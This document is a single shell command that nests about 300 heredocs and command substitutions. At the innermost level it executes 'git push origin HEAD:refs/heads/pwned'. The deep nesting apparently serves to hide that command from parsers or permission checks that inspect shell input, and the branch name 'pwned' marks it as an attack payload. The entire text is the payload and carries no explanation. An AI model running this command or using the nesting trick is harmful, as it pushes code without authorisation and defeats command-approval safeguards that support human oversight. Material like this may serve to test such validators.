cat <<E299
$(cat <<E298
$(cat <<E297
$(cat <<E296
$(cat <<E295
$(cat <<E294
$(cat <<E293
$(cat <<E292
$(cat <<E291
$(cat <<E290
$(cat <<E289
$(cat <<E288
$(cat <<E287
$(cat <<E286
$(cat <<E285
$(cat <<E284
$(cat <<E283
$(cat <<E282
$(cat <<E281
$(cat <<E280
$(cat <<E279
$(cat <<E278
$(cat <<E277
$(cat <<E276
$(cat <<E275
$(cat <<E274
$(cat <<E273
$(cat <<E272
$(cat <<E271
$(cat <<E270
$(cat <<E269
$(cat <<E268
$(cat <<E267
$(cat <<E266
$(cat <<E265
$(cat <<E264
$(cat <<E263
$(cat <<E262
$(cat <<E261
$(cat <<E260
$(cat <<E259
$(cat <<E258
$(cat <<E257
$(cat <<E256
$(cat <<E255
$(cat <<E254
$(cat <<E253
$(cat <<E252
$(cat <<E251
$(cat <<E250
$(cat <<E249
$(cat <<E248
$(cat <<E247
$(cat <<E246
$(cat <<E245
$(cat <<E244
$(cat <<E243
$(cat <<E242
$(cat <<E241
$(cat <<E240
$(cat <<E239
$(cat <<E238
$(cat <<E237
$(cat <<E236
$(cat <<E235
$(cat <<E234
$(cat <<E233
$(cat <<E232
$(cat <<E231
$(cat <<E230
$(cat <<E229
$(cat <<E228
$(cat <<E227
$(cat <<E226
$(cat <<E225
$(cat <<E224
$(cat <<E223
$(cat <<E222
$(cat <<E221
$(cat <<E220
$(cat <<E219
$(cat <<E218
$(cat <<E217
$(cat <<E216
$(cat <<E215
$(cat <<E214
$(cat <<E213
$(cat <<E212
$(cat <<E211
$(cat <<E210
$(cat <<E209
$(cat <<E208
$(cat <<E207
$(cat <<E206
$(cat <<E205
$(cat <<E204
$(cat <<E203
$(cat <<E202
$(cat <<E201
$(cat <<E200
$(cat <<E199
$(cat <<E198
$(cat <<E197
$(cat <<E196
$(cat <<E195
$(cat <<E194
$(cat <<E193
$(cat <<E192
$(cat <<E191
$(cat <<E190
$(cat <<E189
$(cat <<E188
$(cat <<E187
$(cat <<E186
$(cat <<E185
$(cat <<E184
$(cat <<E183
$(cat <<E182
$(cat <<E181
$(cat <<E180
$(cat <<E179
$(cat <<E178
$(cat <<E177
$(cat <<E176
$(cat <<E175
$(cat <<E174
$(cat <<E173
$(cat <<E172
$(cat <<E171
$(cat <<E170
$(cat <<E169
$(cat <<E168
$(cat <<E167
$(cat <<E166
$(cat <<E165
$(cat <<E164
$(cat <<E163
$(cat <<E162
$(cat <<E161
$(cat <<E160
$(cat <<E159
$(cat <<E158
$(cat <<E157
$(cat <<E156
$(cat <<E155
$(cat <<E154
$(cat <<E153
$(cat <<E152
$(cat <<E151
$(cat <<E150
$(cat <<E149
$(cat <<E148
$(cat <<E147
$(cat <<E146
$(cat <<E145
$(cat <<E144
$(cat <<E143
$(cat <<E142
$(cat <<E141
$(cat <<E140
$(cat <<E139
$(cat <<E138
$(cat <<E137
$(cat <<E136
$(cat <<E135
$(cat <<E134
$(cat <<E133
$(cat <<E132
$(cat <<E131
$(cat <<E130
$(cat <<E129
$(cat <<E128
$(cat <<E127
$(cat <<E126
$(cat <<E125
$(cat <<E124
$(cat <<E123
$(cat <<E122
$(cat <<E121
$(cat <<E120
$(cat <<E119
$(cat <<E118
$(cat <<E117
$(cat <<E116
$(cat <<E115
$(cat <<E114
$(cat <<E113
$(cat <<E112
$(cat <<E111
$(cat <<E110
$(cat <<E109
$(cat <<E108
$(cat <<E107
$(cat <<E106
$(cat <<E105
$(cat <<E104
$(cat <<E103
$(cat <<E102
$(cat <<E101
$(cat <<E100
$(cat <<E99
$(cat <<E98
$(cat <<E97
$(cat <<E96
$(cat <<E95
$(cat <<E94
$(cat <<E93
$(cat <<E92
$(cat <<E91
$(cat <<E90
$(cat <<E89
$(cat <<E88
$(cat <<E87
$(cat <<E86
$(cat <<E85
$(cat <<E84
$(cat <<E83
$(cat <<E82
$(cat <<E81
$(cat <<E80
$(cat <<E79
$(cat <<E78
$(cat <<E77
$(cat <<E76
$(cat <<E75
$(cat <<E74
$(cat <<E73
$(cat <<E72
$(cat <<E71
$(cat <<E70
$(cat <<E69
$(cat <<E68
$(cat <<E67
$(cat <<E66
$(cat <<E65
$(cat <<E64
$(cat <<E63
$(cat <<E62
$(cat <<E61
$(cat <<E60
$(cat <<E59
$(cat <<E58
$(cat <<E57
$(cat <<E56
$(cat <<E55
$(cat <<E54
$(cat <<E53
$(cat <<E52
$(cat <<E51
$(cat <<E50
$(cat <<E49
$(cat <<E48
$(cat <<E47
$(cat <<E46
$(cat <<E45
$(cat <<E44
$(cat <<E43
$(cat <<E42
$(cat <<E41
$(cat <<E40
$(cat <<E39
$(cat <<E38
$(cat <<E37
$(cat <<E36
$(cat <<E35
$(cat <<E34
$(cat <<E33
$(cat <<E32
$(cat <<E31
$(cat <<E30
$(cat <<E29
$(cat <<E28
$(cat <<E27
$(cat <<E26
$(cat <<E25
$(cat <<E24
$(cat <<E23
$(cat <<E22
$(cat <<E21
$(cat <<E20
$(cat <<E19
$(cat <<E18
$(cat <<E17
$(cat <<E16
$(cat <<E15
$(cat <<E14
$(cat <<E13
$(cat <<E12
$(cat <<E11
$(cat <<E10
$(cat <<E9
$(cat <<E8
$(cat <<E7
$(cat <<E6
$(cat <<E5
$(cat <<E4
$(cat <<E3
$(cat <<E2
$(cat <<E1
$(cat <<E0
$(git push origin HEAD:refs/heads/pwned)
E0
)
E1
)
E2
)
E3
)
E4
)
E5
)
E6
)
E7
)
E8
)
E9
)
E10
)
E11
)
E12
)
E13
)
E14
)
E15
)
E16
)
E17
)
E18
)
E19
)
E20
)
E21
)
E22
)
E23
)
E24
)
E25
)
E26
)
E27
)
E28
)
E29
)
E30
)
E31
)
E32
)
E33
)
E34
)
E35
)
E36
)
E37
)
E38
)
E39
)
E40
)
E41
)
E42
)
E43
)
E44
)
E45
)
E46
)
E47
)
E48
)
E49
)
E50
)
E51
)
E52
)
E53
)
E54
)
E55
)
E56
)
E57
)
E58
)
E59
)
E60
)
E61
)
E62
)
E63
)
E64
)
E65
)
E66
)
E67
)
E68
)
E69
)
E70
)
E71
)
E72
)
E73
)
E74
)
E75
)
E76
)
E77
)
E78
)
E79
)
E80
)
E81
)
E82
)
E83
)
E84
)
E85
)
E86
)
E87
)
E88
)
E89
)
E90
)
E91
)
E92
)
E93
)
E94
)
E95
)
E96
)
E97
)
E98
)
E99
)
E100
)
E101
)
E102
)
E103
)
E104
)
E105
)
E106
)
E107
)
E108
)
E109
)
E110
)
E111
)
E112
)
E113
)
E114
)
E115
)
E116
)
E117
)
E118
)
E119
)
E120
)
E121
)
E122
)
E123
)
E124
)
E125
)
E126
)
E127
)
E128
)
E129
)
E130
)
E131
)
E132
)
E133
)
E134
)
E135
)
E136
)
E137
)
E138
)
E139
)
E140
)
E141
)
E142
)
E143
)
E144
)
E145
)
E146
)
E147
)
E148
)
E149
)
E150
)
E151
)
E152
)
E153
)
E154
)
E155
)
E156
)
E157
)
E158
)
E159
)
E160
)
E161
)
E162
)
E163
)
E164
)
E165
)
E166
)
E167
)
E168
)
E169
)
E170
)
E171
)
E172
)
E173
)
E174
)
E175
)
E176
)
E177
)
E178
)
E179
)
E180
)
E181
)
E182
)
E183
)
E184
)
E185
)
E186
)
E187
)
E188
)
E189
)
E190
)
E191
)
E192
)
E193
)
E194
)
E195
)
E196
)
E197
)
E198
)
E199
)
E200
)
E201
)
E202
)
E203
)
E204
)
E205
)
E206
)
E207
)
E208
)
E209
)
E210
)
E211
)
E212
)
E213
)
E214
)
E215
)
E216
)
E217
)
E218
)
E219
)
E220
)
E221
)
E222
)
E223
)
E224
)
E225
)
E226
)
E227
)
E228
)
E229
)
E230
)
E231
)
E232
)
E233
)
E234
)
E235
)
E236
)
E237
)
E238
)
E239
)
E240
)
E241
)
E242
)
E243
)
E244
)
E245
)
E246
)
E247
)
E248
)
E249
)
E250
)
E251
)
E252
)
E253
)
E254
)
E255
)
E256
)
E257
)
E258
)
E259
)
E260
)
E261
)
E262
)
E263
)
E264
)
E265
)
E266
)
E267
)
E268
)
E269
)
E270
)
E271
)
E272
)
E273
)
E274
)
E275
)
E276
)
E277
)
E278
)
E279
)
E280
)
E281
)
E282
)
E283
)
E284
)
E285
)
E286
)
E287
)
E288
)
E289
)
E290
)
E291
)
E292
)
E293
)
E294
)
E295
)
E296
)
E297
)
E298
)
E299
